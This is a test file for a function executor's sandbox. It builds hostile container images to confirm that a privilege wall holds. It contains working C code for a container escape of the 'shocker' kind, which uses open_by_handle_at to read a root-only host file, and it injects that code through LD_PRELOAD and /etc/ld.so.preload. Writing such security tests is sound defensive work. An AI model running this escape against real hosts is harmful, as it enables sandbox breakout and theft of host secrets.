import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { FunctionInstance } from '../../executor/runtime/instance.js';
import type { FunctionSpec } from '../../executor/runtime/types.js';
import { elfInterpreter, HOST_TOOLS_INSIDE } from '../../executor/sandbox/host-tools.js';
import { prepareImageRoot } from '../../executor/sandbox/image-root.js';
import { event, makeSpec, silentLog, useSandbox } from './helpers.js';

/**
 * A container image is the tenant's own root file system and environment, and bwrap runs as root until
 * the privilege drop: nothing of the image may reach a program that runs with root's capabilities
 * (executor/native/drop.c, docs/sandbox.md). Each test builds a hostile image and asserts that the
 * wall holds. Found by a review on 2026-12-07, when both attacks below read a root-only host file.
 */
const sandbox = useSandbox({ spares: 0 });
const live: FunctionInstance[] = [];
const work = mkdtempSync(path.join(os.tmpdir(), 'tally-hostile-image-'));

afterEach(async () => {
  await Promise.all(live.splice(0).map((i) => i.dispose()));
});
afterAll(() => rmSync(work, { recursive: true, force: true }));

/**
 * A shared object whose constructor, when it finds itself running as root, reports its capabilities
 * and reads a host file through open_by_handle_at (the "shocker" escape: a file handle for the root
 * inode of the file system the image lives on, resolved outside every mount namespace).
 */
const EVIL_C = String.raw`
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void evil(void) {
  if (geteuid() != 0) return;
  char status[4096];
  int fd = open("/proc/self/status", O_RDONLY);
  int n = fd >= 0 ? read(fd, status, sizeof status - 1) : 0;
  status[n > 0 ? n : 0] = 0;
  char *cap = strstr(status, "CapEff:");
  dprintf(2, "EVIL-ROOT euid=%d %.*s\n", geteuid(), cap ? 24 : 0, cap ? cap : "");
  const char *target = getenv("REVIEW_SECRET");
  if (!target) return;
  struct { unsigned int bytes; int type; unsigned int ino; unsigned int gen; } handle = { 8, 1, 2, 0 };
  int mount_fd = open("/", O_RDONLY | O_DIRECTORY);
  int root = open_by_handle_at(mount_fd, (struct file_handle *)&handle, O_RDONLY | O_DIRECTORY);
  if (root < 0) { dprintf(2, "EVIL-ROOT no handle: %m\n"); return; }
  int secret = openat(root, target, O_RDONLY);
  char text[256] = {0};
  if (secret >= 0 && read(secret, text, sizeof text - 1) > 0) dprintf(2, "EVIL-ROOT read host file: %s\n", text);
  else dprintf(2, "EVIL-ROOT could not read %s: %m\n", target);
}
`;

/** The host's dynamic loader as an image instance sees it (bound read-only under HOST_TOOLS_INSIDE). */
function loaderInside(): string {
  return `${HOST_TOOLS_INSIDE}/lib/${path.basename(realpathSync(elfInterpreter(realpathSync('/bin/sh'))))}`;
}

/** An unpacked container image holding evil.so at its root, prepared as the image cache prepares one. */
async function evilImage(name: string, files: Record<string, string> = {}): Promise<string> {
  const rootfs = path.join(work, name, 'rootfs');
  mkdirSync(rootfs, { recursive: true });
  execFileSync('cc', ['-shared', '-fPIC', '-o', path.join(rootfs, 'evil.so'), '-x', 'c', '-'], { input: EVIL_C });
  for (const [at, text] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(rootfs, at)), { recursive: true });
    writeFileSync(path.join(rootfs, at), text);
  }
  await prepareImageRoot(rootfs);
  return rootfs;
}

function imageFunction(rootfs: string, environment: Record<string, string>, script = 'exit 3'): FunctionInstance {
  // The image's own program: the host shell through the host loader (the image has no C library).
  const argv = [loaderInside(), '--library-path', `${HOST_TOOLS_INSIDE}/lib`, `${HOST_TOOLS_INSIDE}/sh`, '-c', script];
  const spec: FunctionSpec = makeSpec(rootfs, {
    runtime: 'provided',
    handler: 'x',
    image: { digest: `sha256:${'0'.repeat(64)}`, rootfs, argv, workingDirectory: '/', environment },
  });
  const fn = new FunctionInstance(spec, { log: silentLog, isolation: sandbox.isolation });
  live.push(fn);
  return fn;
}

/** A file only root can read on the host, on the same file system as the image, by its path from that file system's root. */
function hostSecret(): { relative: string; text: string } {
  const text = `host-secret-${randomBytes(6).toString('hex')}`;
  const file = path.join(work, `secret-${randomBytes(3).toString('hex')}`);
  writeFileSync(file, text, { mode: 0o600 });
  const mountPoint = execFileSync('findmnt', ['-no', 'TARGET', '-T', file], { encoding: 'utf8' }).trim();
  return { relative: path.relative(mountPoint, file), text };
}

describe('a container image', () => {
  it("cannot run code as root through its ENV's LD_PRELOAD (the image's Env is not filtered)", async () => {
    const rootfs = await evilImage('env-preload');
    const secret = hostSecret();
    const fn = imageFunction(rootfs, { LD_PRELOAD: '/evil.so', REVIEW_SECRET: secret.relative });
    const result = await fn.invoke(event({}), { requestId: 'req-env-preload' });
    expect(result.log).not.toContain('EVIL-ROOT');
    expect(result.log).not.toContain(secret.text);
  });

  it('cannot run code as root through an /etc/ld.so.preload of its own', async () => {
    const rootfs = await evilImage('etc-preload', { 'etc/ld.so.preload': '/evil.so\n' });
    const secret = hostSecret();
    const fn = imageFunction(rootfs, { REVIEW_SECRET: secret.relative });
    const result = await fn.invoke(event({}), { requestId: 'req-etc-preload' });
    expect(result.log).not.toContain('EVIL-ROOT');
    expect(result.log).not.toContain(secret.text);
  });

  it('runs its program with no privilege left: no capability in any set, no groups, no_new_privs, its own uid and session keyring', async () => {
    const rootfs = await evilImage('status');
    // The image has no cat: the shell's own status, read with its builtins.
    const fn = imageFunction(
      rootfs,
      {},
      'for f in /proc/self/status /proc/keys; do while IFS= read -r line; do echo "$line" >&2; done < $f; done; exit 3',
    );
    const { log } = await fn.invoke(event({}), { requestId: 'req-status' });
    const field = (name: string) => new RegExp(`^${name}:[ \\t]*(.*)$`, 'm').exec(log)?.[1]?.trim();
    for (const set of ['CapInh', 'CapPrm', 'CapEff', 'CapBnd', 'CapAmb']) expect(field(set), set).toBe('0000000000000000');
    expect(field('NoNewPrivs')).toBe('1');
    expect(field('Groups')).toBe('');
    const [uid, euid, suid] = (field('Uid') ?? '').split(/\s+/).map(Number);
    expect(uid).toBeGreaterThanOrEqual(1_000_000_000);
    expect([euid, suid]).toEqual([uid, uid]);
    expect((field('Gid') ?? '').split(/\s+/).map(Number)).toEqual([uid, uid, uid, uid]);
    // A session keyring of its own (owned by its uid), not the executor's: systemd gives a service one.
    expect(log).toMatch(new RegExp(`^\\w+ [^\\n]* ${uid} +${uid} keyring +_ses: `, 'm'));
  });
});
